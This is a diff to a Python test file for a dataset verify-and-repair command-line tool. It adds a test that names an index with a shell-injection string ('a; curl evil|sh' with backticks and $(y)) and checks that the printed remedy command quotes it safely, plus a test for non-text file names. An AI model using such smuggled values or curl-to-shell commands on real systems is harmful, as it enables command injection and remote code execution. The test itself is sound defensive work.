@@ -3,7 +3,10 @@
 from __future__ import annotations
 
 import json
+import os
+import shlex
 import struct
+import sys
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -102,6 +105,28 @@ def test_a_damaged_index_is_found_and_dropped_without_a_row(
     (facts,) = told(call("repair", uri, *deep, "--apply", "--json"))
     assert (facts["dropped_indices"], facts["rows"], facts["restored_as"]) == (["a_idx"], 5000, 3)
     assert call("verify", uri, *deep, "--newest").exit_code == 0
+
+
+@pytest.mark.spec("rel-36")
+def test_a_remedy_that_is_pasted_into_a_shell_runs_one_command_whatever_an_index_is_called(
+    call: Call, tmp_path: Path
+) -> None:
+    uri, name = str(tmp_path / "a.lance"), "a; curl evil|sh\n`x` $(y) 'z'"
+    dataset = glaive.write_dataset(pa.table({"a": range(5000)}), uri)
+    dataset.create_scalar_index("a", "BTREE", name=name)
+    damage_index(uri, values=False)
+    remedy = told(call("verify", uri, "--json"))[-1]["remedy"]
+    pasted = remedy.removeprefix("no rows are lost: `").removesuffix("`, then build it again")
+    assert shlex.split(pasted) == ["glaive", "index", uri, "--drop", name]
+
+
+@pytest.mark.skipif(sys.platform != "linux", reason="other systems have no such names")
+def test_files_whose_names_are_no_text_are_listed(call: Call, things: str) -> None:
+    Path(things, "data", os.fsdecode(b"\xff.lance")).write_bytes(b"123")
+    found = told(call("verify", things, "--json"))
+    assert found[-1] == {"state": "unused", "files": 1, "bytes": 3}
+    listed = glaive.dataset(things).all_files().read_all()["path"].to_pylist()
+    assert "data/\\udcff.lance" in listed
 
 
 def test_verify_names_each_fragment_and_checks_branches(call: Call, tmp_path: Path) -> None:
